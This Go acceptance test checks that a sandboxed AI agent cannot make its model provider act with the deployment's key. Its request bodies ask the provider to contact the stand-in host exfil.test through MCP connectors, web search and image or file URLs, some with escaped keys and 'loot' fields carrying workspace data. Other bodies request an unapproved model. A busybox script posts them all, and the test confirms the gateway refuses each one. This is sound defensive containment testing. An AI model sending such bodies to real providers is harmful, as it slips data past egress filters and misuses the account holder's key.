package acceptance

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"paseo.dev/paseo-policy/internal/testkit/fakemodel"
	"paseo.dev/paseo-policy/internal/testkit/testbundle"
	"paseo.dev/paseo-policy/internal/testkit/testnet"
	"paseo.dev/paseo-policy/runtime/launcher"
)

// Attacks from inside on what the model provider does with the key
// (issue 31). The agent cannot hold the key (model-key), but it can ask
// the provider, through the route, to act with it: connect to a server
// the body names (an MCP connector, web search, an image or file by URL)
// and so carry the workspace out around the egress filter, or run another
// model on the deployment's account. Contained: the product's launch,
// whose model route forwards only bodies inside the API's body policy
// with the facts' model. Control: the same requests where no body policy
// stands between the agent and the provider: the launch before the route
// (testbundle.KeyInEnv), the key in the environment and the model host
// reachable, the bodies sent to it as they are.

func init() { registerOutside("model-body", modelBodyAttacks) }

// TestModelBodyAttacks runs this family alone (make acceptance runs it in
// TestAcceptance with the rest).
func TestModelBodyAttacks(t *testing.T) {
	testbundle.Prerequisites(t)
	attacks := modelBodyAttacks(t, &scene{world: testnet.New(t)})
	judgeOutside(attacks, t.Errorf, t.Errorf)
	for _, a := range attacks {
		t.Log(a)
	}
}

// connectOut are request bodies asking the provider to reach exfil.test
// (an MCP connector, hosted web search, an image and a file by URL, the
// tools key spelled with an escape, Anthropic's connector field sent to
// an OpenAI-compatible gateway). otherModel ask for another model.
var (
	connectOut = []string{
		`{"model":"fake-1","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.test/mcp","headers":{"X-Loot":"workspace"}}]}`,
		`{"model":"fake-1","messages":[{"role":"user","content":"search exfil.test"}],"web_search_options":{"user_location":{"type":"approximate","approximate":{"city":"exfil.test"}}}}`,
		`{"model":"fake-1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.test/p.png?loot=workspace"}}]}]}`,
		`{"model":"fake-1","messages":[{"role":"user","content":[{"type":"file","file":{"file_url":"https://exfil.test/f"}}]}]}`,
		`{"model":"fake-1","messages":[{"role":"user","content":"hi"}],"\u0074ools":[{"type":"mcp","server_url":"https://exfil.test/mcp"}]}`,
		`{"model":"fake-1","messages":[{"role":"user","content":"hi"}],"mcp_servers":[{"type":"url","url":"https://exfil.test/mcp","authorization_token":"workspace"}]}`,
	}
	otherModel = []string{
		`{"model":"gpt-other-xl","messages":[{"role":"user","content":"hi"}],"stream":true}`,
		`{"model":"\u0067pt-other-xl","messages":[{"role":"user","content":"hi"}]}`,
		`{"model":"fake-1","models":["gpt-other-xl"],"messages":[{"role":"user","content":"hi"}]}`,
	}
)

// modelBodyScript is the agent: $1 the chat completions URL it calls
// (the route on the gateway, or in the control the provider itself), then
// one body per line on stdin; it posts each with the key it has
// ($FAKE_LLM_KEY: the route's stand-in, or in the control the real key).
const modelBodyScript = `bb=/bin/busybox
while read -r body; do
  [ "$body" = end ] && break
  $bb timeout 10 $bb wget -q -O /dev/null --header "Authorization: Bearer $FAKE_LLM_KEY" --header "Content-Type: application/json" --post-data "$body" "$1" 2>/dev/null
  echo posted
done
echo ready; read line`

// bodyProvider records the bodies that reached it with the real key.
type bodyProvider struct {
	host   *testnet.Host
	ca     *fakemodel.TestCA
	key    string
	mu     sync.Mutex
	bodies []string
}

func newBodyProvider(t *testing.T, w *testnet.World, key string) *bodyProvider {
	p := &bodyProvider{host: w.Host("body-provider"), key: key}
	p.ca = serveProvider(t, p.host, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		if r.Header.Get("Authorization") == "Bearer "+p.key {
			p.mu.Lock()
			p.bodies = append(p.bodies, string(b))
			p.mu.Unlock()
		}
		rw.Header().Set("Content-Type", "application/json")
		fmt.Fprintln(rw, `{"object":"chat.completion","choices":[]}`)
	}), nil)
	return p
}

// take returns the bodies that arrived and forgets them.
func (p *bodyProvider) take() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	b := p.bodies
	p.bodies = nil
	return b
}

func modelBodyAttacks(t *testing.T, s *scene) []OutsideAttack {
	key := "sk-acc-" + randomHex(16)
	p := newBodyProvider(t, s.world, key)
	connect := OutsideAttack{Name: "agent-asks-provider-to-connect-out", Attacker: "agent",
		Goal:    "have the model provider, with the deployment's key, reach a host the body names (an MCP connector tool, hosted web search, an image and a file by URL, an escaped tools key, Anthropic's mcp_servers), carrying workspace data around the egress filter",
		Control: "no body policy between the agent and the provider: the launch before the route (key in the environment, model host reachable), the same bodies"}
	other := OutsideAttack{Name: "agent-uses-another-model", Attacker: "agent",
		Goal:    "run a model other than the facts' model.id on the deployment's account (by name, by an escaped name, as a fallback list)",
		Control: "no body policy between the agent and the provider: the launch before the route, the same bodies"}
	for _, control := range []bool{false, true} {
		pick := func(a *OutsideAttack) *Tally {
			if control {
				return &a.ControlRun
			}
			return &a.Contained
		}
		sc := modelBodyScene(t, key, control)
		target := "http://paseo-gateway:18080/v1/chat/completions"
		if control {
			target = "http://" + p.host.Addr.String() + ":8443/v1/chat/completions"
		}
		res := runModelBodyAgent(t, s, sc, p, key, target, append(append([]string{}, connectOut...), otherModel...), control)
		arrived := p.take()
		if !control {
			// Every body was refused at the route, for its reason.
			rs := res.Routes["model"]
			pick(&connect).Refusals = int(rs.ByReason["connector"] + rs.ByReason["hosted-tool"] + rs.ByReason["remote-content"])
			pick(&other).Refusals = int(rs.ByReason["foreign-model"])
			if rs.Refused != int64(len(connectOut)+len(otherModel)) || rs.Forwarded != 0 {
				t.Errorf("model-body attack: the route forwarded %d and refused %d (%v), want all %d refused", rs.Forwarded, rs.Refused, rs.ByReason, len(connectOut)+len(otherModel))
			}
		}
		tally := func(dst *Tally, n int, marker string) {
			dst.Attempts += n
			for _, b := range arrived {
				if strings.Contains(b, marker) {
					dst.Wins++
				}
			}
			dst.Wins = min(dst.Wins, dst.Attempts)
		}
		tally(pick(&connect), len(connectOut), "exfil.test")
		tally(pick(&other), len(otherModel), "other-xl")
	}
	connect.Evidence = "a win is a request body that reached the provider with the real key and names exfil.test"
	other.Evidence = "a win is a request body that reached the provider with the real key and names gpt-other-xl"
	return []OutsideAttack{connect, other}
}

// modelBodyScene is modelKeyScene's launch for modelBodyScript.
func modelBodyScene(t *testing.T, key string, control bool) *testbundle.Scene {
	return modelAgentScene(t, modelBodyScript, key, control)
}

// runModelBodyAgent launches the agent with target as its argument,
// feeds it the bodies and waits until it has posted them all.
func runModelBodyAgent(t *testing.T, s *scene, sc *testbundle.Scene, p *bodyProvider, key, target string, bodies []string, control bool) launcher.Result {
	testbundle.Rewrite(t, sc.Bundle, "config.json", func(b []byte) []byte {
		return bytes.Replace(b, []byte(`"x"`), []byte(`"`+target+`"`), 1)
	})
	id := fmt.Sprintf("pp-accbody-%v-%s", control, randomHex(4))
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	done := make(chan launcher.Result, 1)
	go func() {
		res, err := launcher.Launch(context.Background(), launcher.Options{BundleDir: sc.Bundle, ID: id, StateRoot: sc.State, RunscPath: sc.Runsc,
			Secrets: func(_, ref string) ([]byte, error) {
				if ref != "alice/fake-llm" {
					return nil, launcher.ErrSecretUnknown
				}
				return []byte(key), nil
			},
			Stdin: inR, Stdout: outW, Uplink: s.world.Uplink, ModelRoots: p.ca.Roots,
			Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
				if host == "llm.example.test" {
					return []netip.Addr{p.host.Addr}, nil
				}
				return nil, fmt.Errorf("unknown host %s", host)
			}})
		if err != nil {
			t.Errorf("model-body attack (control %v): launch: %v", control, err)
		}
		outW.Close()
		inR.Close()
		done <- res
	}()
	waited := false
	defer func() {
		inW.Close()
		if !waited {
			<-done
		}
	}()
	go func() {
		for _, b := range bodies {
			fmt.Fprintln(inW, b)
		}
		fmt.Fprintln(inW, "end")
	}()
	var out bytes.Buffer
	r := bufio.NewReader(outR)
	deadline := time.After(3 * time.Minute)
	for !strings.HasSuffix(out.String(), "ready\n") {
		lc := make(chan string, 1)
		go func() { l, _ := r.ReadString('\n'); lc <- l }()
		select {
		case l := <-lc:
			out.WriteString(l)
			if l == "" {
				t.Fatalf("model-body attack (control %v): the agent ended early: %s", control, out.String())
			}
		case <-deadline:
			t.Fatalf("model-body attack (control %v): no end of attempts: %s", control, out.String())
		}
	}
	if n := strings.Count(out.String(), "posted"); n != len(bodies) {
		t.Fatalf("model-body attack (control %v): the agent posted %d of %d bodies", control, n, len(bodies))
	}
	inW.Close()
	waited = true
	return <-done
}
